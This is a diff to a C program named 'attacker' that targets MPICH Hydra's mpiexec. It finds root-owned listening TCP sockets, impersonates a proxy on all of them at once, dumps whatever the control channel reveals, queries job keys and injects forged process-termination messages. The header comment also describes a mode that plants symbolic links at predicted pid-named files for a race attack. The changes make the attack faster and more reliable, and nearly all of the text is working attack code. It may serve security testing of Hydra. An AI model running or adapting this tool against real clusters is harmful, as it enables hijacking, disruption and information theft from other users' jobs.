@@ -18,8 +18,8 @@
  *       a MAC, which it cannot compute: garbage)
  *   attacker control MODE SNAPSHOT DUMP NPROCS [HOLD]
  *       connects to every TCP socket of uid 0 listening since the snapshot
- *       (mpiexec's control port among them; oldest socket first) and
- *       speaks Hydra's control protocol
+ *       (mpiexec's control port among them; /proc does not say which),
+ *       all at once, and speaks Hydra's control protocol
  *       (src/pm/hydra/pm/pmiserv/pmiserv_cb.c) as a proxy would:
  *         unknown     sends proxy id 777
  *         read        claims proxy 0 and reads all that comes
@@ -27,8 +27,8 @@
  *         declared    claims proxy 0, then PMI gets of
  *                     PMI_declared_failed_<r> for r = 0..NPROCS-1
  *         terminated  claims proxy 0, then PROCESS_TERMINATED of rank 1
- *       keeping each connection HOLD seconds (2) after its last send; all
- *       it receives is appended to DUMP
+ *       keeping each connection HOLD seconds (2) after its last send; what
+ *       each connection received is appended to DUMP
  *   attacker links DIR NAME AHEAD TARGET STOPFILE LOG
  *       plants symbolic links DIR/NAME.<pid> -> TARGET for the AHEAD pids
  *       after /proc/sys/kernel/ns_last_pid, and keeps AHEAD ahead of it,
@@ -59,6 +59,7 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -141,7 +142,8 @@ static int in_snapshot(unsigned long inode)
     return 0;
 }
 
-/* The sockets of uid 0 made since the snapshot, oldest (lowest inode) first. */
+/* The sockets of uid 0 made since the snapshot, by inode (not their age:
+ * the kernel hands inode numbers out in per-CPU batches). */
 static int new_socks(int tcp, sock_t * out)
 {
     sock_t all[2 * MAX_SOCKS];
@@ -303,15 +305,20 @@ struct hyd_hdr {
 };
 enum { HYD_PMI_CMD = 7, HYD_PROCESS_TERMINATED = 10 };
 
-static FILE *dump;
-static long received;
+static char *got;               /* what this connection received */
+static size_t got_len, got_cap;
 static char kvsname[256] = "kvs_0";
 
 static void keep(const char *buf, ssize_t n)
 {
-    fwrite(buf, 1, n, dump);
-    fflush(dump);
-    received += n;
+    if (got_len + n > got_cap) {
+        got_cap = 2 * (got_len + n);
+        got = realloc(got, got_cap);
+        if (got == NULL)
+            exit(1);
+    }
+    memcpy(got + got_len, buf, n);
+    got_len += n;
     /* the job's key-value space, if mpiexec names it (--pmi-kvsname) */
     const char *k = memmem(buf, n, "kvs_", 4);
     if (k && !strcmp(kvsname, "kvs_0")) {
@@ -356,10 +363,68 @@ static int send_all(int fd, const void *buf, size_t len)
     return 0;
 }
 
+/* One connection to socket s in `mode`; returns 0 if it connected. What it
+ * received is appended to dumpfile in one write. */
+static int attack_one(const sock_t * s, const char *mode, const char *dumpfile, int nprocs,
+                      double hold)
+{
+    struct sockaddr_storage to;
+    socklen_t len = target_of(s, &to);
+    int fd = socket(to.ss_family, SOCK_STREAM, 0), closed = 0;
+    if (connect(fd, (struct sockaddr *) &to, len) != 0) {
+        printf("attacker: port %u: connect: %s\n", s->port, strerror(errno));
+        close(fd);
+        return 1;
+    }
+    int id = !strcmp(mode, "unknown") ? 777 : 0;
+    if (send_all(fd, &id, sizeof(id)) != 0)
+        closed = 1;
+    if (!strcmp(mode, "hangup")) {
+        close(fd);
+        printf("attacker: port %u: claimed proxy 0 and hung up\n", s->port);
+        return 0;
+    }
+    if (!strcmp(mode, "unknown") || !strcmp(mode, "read")) {
+        closed = closed || drain(fd, 2.0, 10.0);
+    } else {
+        closed = closed || drain(fd, 0.5, 5.0);
+        if (!strcmp(mode, "declared")) {
+            for (int r = 0; r < nprocs && !closed; r++) {
+                char text[512];
+                struct hyd_hdr h = {.cmd = HYD_PMI_CMD,.pid = 5,.pmi_version = 1 };
+                h.buflen = snprintf(text, sizeof(text),
+                                    "cmd=get kvsname=%s key=PMI_declared_failed_%d\n", kvsname, r);
+                if (send_all(fd, &h, sizeof(h)) || send_all(fd, text, h.buflen))
+                    closed = 1;
+                closed = closed || drain(fd, 0.2, 2.0);
+            }
+        } else {
+            struct hyd_hdr h = {.cmd = HYD_PROCESS_TERMINATED,.pid = 1 };
+            if (send_all(fd, &h, sizeof(h)))
+                closed = 1;
+        }
+        closed = closed || drain(fd, hold, hold);
+    }
+    close(fd);
+    printf("attacker: port %u: %s, %zu byte(s) received, %s\n", s->port, mode, got_len,
+           closed ? "closed by the other side" : "hung up");
+    FILE *dump = fopen(dumpfile, "a");
+    if (dump == NULL) {
+        perror(dumpfile);
+        return 0;
+    }
+    setvbuf(dump, NULL, _IONBF, 0);     /* one write(2) on an O_APPEND file */
+    if (got_len)
+        fwrite(got, 1, got_len, dump);
+    fclose(dump);
+    return 0;
+}
+
 static int cmd_control(const char *mode, const char *snapfile, const char *dumpfile, int nprocs,
                        double hold)
 {
     sock_t socks[MAX_SOCKS];
+    pid_t child[MAX_SOCKS];
     int nsocks, made = 0;
     if (strcmp(mode, "unknown") && strcmp(mode, "read") && strcmp(mode, "hangup") &&
         strcmp(mode, "declared") && strcmp(mode, "terminated")) {
@@ -368,62 +433,23 @@ static int cmd_control(const char *mode, const char *snapfile, const char *dumpf
     }
     if (load_snapshot(snapfile))
         return 1;
-    dump = fopen(dumpfile, "a");
-    if (dump == NULL) {
-        perror(dumpfile);
-        return 1;
-    }
     nsocks = new_socks(1, socks);
     printf("attacker: %d new listening TCP socket(s) of uid 0:", nsocks);
     for (int i = 0; i < nsocks; i++)
-        printf(" %u (inode %lu)", socks[i].port, socks[i].inode);
+        printf(" %u", socks[i].port);
     printf("\n");
+    /* all at once: the attack takes as long as one connection */
     for (int s = 0; s < nsocks; s++) {
-        struct sockaddr_storage to;
-        socklen_t len = target_of(&socks[s], &to);
-        int fd = socket(to.ss_family, SOCK_STREAM, 0), closed = 0;
-        long before = received;
-        if (connect(fd, (struct sockaddr *) &to, len) != 0) {
-            printf("attacker: port %u: connect: %s\n", socks[s].port, strerror(errno));
-            close(fd);
-            continue;
-        }
-        made++;
-        int id = !strcmp(mode, "unknown") ? 777 : 0;
-        if (send_all(fd, &id, sizeof(id)) != 0)
-            closed = 1;
-        if (!strcmp(mode, "hangup")) {
-            close(fd);
-            printf("attacker: port %u: claimed proxy 0 and hung up\n", socks[s].port);
-            continue;
-        }
-        if (!strcmp(mode, "unknown") || !strcmp(mode, "read")) {
-            closed = closed || drain(fd, 2.0, 10.0);
-        } else {
-            closed = closed || drain(fd, 0.5, 5.0);
-            if (!strcmp(mode, "declared")) {
-                for (int r = 0; r < nprocs && !closed; r++) {
-                    char text[512];
-                    struct hyd_hdr h = {.cmd = HYD_PMI_CMD,.pid = 5,.pmi_version = 1 };
-                    h.buflen = snprintf(text, sizeof(text),
-                                        "cmd=get kvsname=%s key=PMI_declared_failed_%d\n",
-                                        kvsname, r);
-                    if (send_all(fd, &h, sizeof(h)) || send_all(fd, text, h.buflen))
-                        closed = 1;
-                    closed = closed || drain(fd, 0.2, 2.0);
-                }
-            } else {
-                struct hyd_hdr h = {.cmd = HYD_PROCESS_TERMINATED,.pid = 1 };
-                if (send_all(fd, &h, sizeof(h)))
-                    closed = 1;
-            }
-            closed = closed || drain(fd, hold, hold);
-        }
-        printf("attacker: port %u: %s, %ld byte(s) received, %s\n", socks[s].port, mode,
-               received - before, closed ? "closed by the other side" : "hung up");
-        close(fd);
+        child[s] = fork();
+        if (child[s] == 0)
+            _exit(attack_one(&socks[s], mode, dumpfile, nprocs, hold));
     }
-    fclose(dump);
+    for (int s = 0; s < nsocks; s++) {
+        int status;
+        if (child[s] > 0 && waitpid(child[s], &status, 0) == child[s] && WIFEXITED(status) &&
+            WEXITSTATUS(status) == 0)
+            made++;
+    }
     if (made == 0) {
         printf("attacker: nothing to attack\n");
         return 2;
